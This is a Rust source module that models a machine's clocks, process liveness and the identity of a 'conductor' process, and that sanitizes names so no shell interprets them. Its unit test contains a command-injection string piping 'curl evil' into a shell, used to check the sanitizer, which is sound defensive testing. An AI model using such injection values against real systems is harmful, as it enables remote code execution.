//! The machine that a conductor runs on: its clocks, and which of its processes are running.

use std::rc::Rc;
use std::time::Duration;

use async_trait::async_trait;
use jiff::Timestamp;
use serde::{Deserialize, Serialize};

use crate::moment::Moment;
use crate::ports::Clock;

/// The wall clock and the machine, for everything that must not use an upgrade's own clock.
#[async_trait(?Send)]
pub trait Machine {
    /// The current time of the wall clock.
    fn now(&self) -> Timestamp;
    /// The time since the machine was started, including the time in which it was suspended if the machine counts that.
    fn up(&self) -> Duration;
    /// This moment, for measuring.
    fn moment(&self) -> Moment {
        Moment { wall: self.now(), up: self.up() }
    }
    /// Waits.
    async fn sleep(&self, length: Duration);
    /// Whether the process with this number and start time is running. `false` only if it is known to be gone.
    fn lives(&self, process: u32, started: u64) -> bool;
    /// Whether that process is suspended: by Ctrl-Z, SIGSTOP, or because it used its terminal from the background.
    /// `false` where the machine cannot tell.
    fn is_suspended(&self, process: u32, started: u64) -> bool;
    /// Text that is different for each process.
    fn nonce(&self) -> String;
    /// Who runs this process, on which machine, and which process it is.
    fn identity(&self) -> Identity;
}

/// A machine that uses an upgrade's own clock, for simulated time and for runs that write nothing.
pub struct OnClock(pub Rc<dyn Clock>);

#[async_trait(?Send)]
impl Machine for OnClock {
    fn now(&self) -> Timestamp {
        self.0.now()
    }

    fn up(&self) -> Duration {
        self.0.up()
    }

    async fn sleep(&self, length: Duration) {
        self.0.sleep(length).await;
    }

    fn lives(&self, _process: u32, _started: u64) -> bool {
        false
    }

    fn is_suspended(&self, _process: u32, _started: u64) -> bool {
        false
    }

    fn nonce(&self) -> String {
        "simulated".to_owned()
    }

    fn identity(&self) -> Identity {
        Identity { user: "rehearsal".to_owned(), machine: "simulated".to_owned(), process: 0, origin: None }
    }
}

/// How long a timer runs at most before the clocks are read again: timers stop while a machine is suspended.
const LONGEST_TIMER: Duration = Duration::from_secs(30);

/// Waits until one of the machine's clocks shows that `length` has passed: the wall clock may be set back, and the
/// other one may stand still while the machine is suspended.
pub async fn wait(machine: &dyn Machine, length: Duration) {
    let begin = machine.moment();
    loop {
        let left = length.saturating_sub(begin.at_most_until(machine.moment()));
        if left.is_zero() {
            return;
        }
        machine.sleep(left.min(LONGEST_TIMER)).await;
    }
}

/// A conductor.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Identity {
    /// The user's name, as [`plain`] gives it.
    #[serde(deserialize_with = "read_plain")]
    pub user: String,
    /// The machine's name, as [`plain`] gives it.
    #[serde(deserialize_with = "read_plain")]
    pub machine: String,
    /// The process on that machine.
    pub process: u32,
    /// Where that number identifies the process; `None` if the machine cannot tell.
    #[serde(default, flatten, skip_serializing_if = "Option::is_none")]
    pub origin: Option<Origin>,
}

/// Where the number of a process identifies that process and no other.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Origin {
    /// The boot of the machine's kernel: `/proc/sys/kernel/random/boot_id` on Linux.
    pub boot: String,
    /// The namespace of process numbers: `/proc/self/ns/pid` on Linux. Containers of one machine each have their own.
    pub pid_namespace: String,
    /// When the process was started, in the machine's own unit. It is needed because numbers of processes are reused.
    pub started: u64,
}

/// Whether a conductor still runs, as far as this machine can tell.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Life {
    /// Its process is running.
    Lives,
    /// Its process is on this machine, and is suspended.
    Suspended,
    /// It ran where this process runs, and is gone.
    Gone,
    /// It ran elsewhere: on another machine, in another container, or before a reboot.
    Unknown,
}

/// A name of a user or a machine as it is shown to others, and typed by them after `--take-over`. It comes from the
/// environment or from a file in the state, so it is one word of at most 64 characters that no shell interprets: every
/// other character is replaced by `_`.
#[must_use]
pub fn plain(name: &str) -> String {
    let is_plain = |(index, letter): (usize, char)| {
        letter.is_alphanumeric() || matches!(letter, '.' | '_' | '+') || (letter == '-' && index > 0)
    };
    let letters = name.chars().take(64).enumerate();
    letters.map(|(index, letter)| if is_plain((index, letter)) { letter } else { '_' }).collect()
}

fn read_plain<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<String, D::Error> {
    Ok(plain(&String::deserialize(deserializer)?))
}

impl Identity {
    /// Whether the conductor `self` still runs, as seen from `machine`. The current process itself does not count as
    /// another conductor.
    #[must_use]
    pub fn life(&self, machine: &dyn Machine) -> Life {
        let here = machine.identity();
        let (Some(theirs), Some(ours)) = (&self.origin, &here.origin) else { return Life::Unknown };
        if (&theirs.boot, &theirs.pid_namespace) != (&ours.boot, &ours.pid_namespace) {
            return Life::Unknown;
        }
        let itself = self.process == here.process && theirs.started == ours.started;
        match machine.lives(self.process, theirs.started) && !itself {
            false => Life::Gone,
            true if machine.is_suspended(self.process, theirs.started) => Life::Suspended,
            true => Life::Lives,
        }
    }

    /// The conductor as `--take-over` names it: `user@machine`.
    #[must_use]
    pub fn name(&self) -> String {
        format!("{}@{}", self.user, self.machine)
    }

    /// Whether `words` name this conductor, such as `ada@left`, with or without its process as it is displayed.
    #[must_use]
    pub fn is_named(&self, words: &str) -> bool {
        words == self.name() || words == self.to_string()
    }
}

impl std::fmt::Display for Identity {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}@{} (process {})", self.user, self.machine, self.process)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_from_outside_are_single_words_that_no_shell_interprets() {
        assert_eq!(plain("ada-2.lovelace"), "ada-2.lovelace");
        assert_eq!(plain("-rf"), "_rf");
        assert_eq!(plain("eve\n10:31 done"), "eve_10_31_done");
        assert_eq!(plain(&"x".repeat(100)).len(), 64);
        let text = r#"{"user":"eve\nFORGED","machine":"other; curl evil|sh #","process":7}"#;
        let identity: Identity = serde_json::from_str(text).expect("an identity");
        assert_eq!(identity.to_string(), "eve_FORGED@other__curl_evil_sh__ (process 7)");
        assert!(identity.is_named("eve_FORGED@other__curl_evil_sh__"));
    }
}
